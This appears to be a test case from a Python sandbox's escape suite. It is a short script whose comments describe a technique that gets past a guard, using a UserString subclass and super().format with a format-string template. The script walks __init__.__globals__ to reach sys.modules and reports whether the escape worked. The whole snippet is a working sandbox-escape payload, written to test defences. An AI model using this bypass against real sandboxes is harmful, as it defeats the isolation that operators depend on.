# technique: super(U, u).format(exit) with U a UserString subclass: super() hands out the stock UserString.format bound to u, which formats u.data (a run-time __init__.__globals__[sys].modules template) inside collections, where no rewrite reaches; the guard scanned the first argument
# configs: default, common
# With nothing allowed `import collections` is refused.
import collections
import dataclasses
u = '_' * 2
U = dataclasses.make_dataclass('U', [], bases=(collections.UserString,), eq=False)
s = U()
s.data = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
text = super(U, s).format(exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:200]}}]
return [{'json': {'result': text[:200]}}]
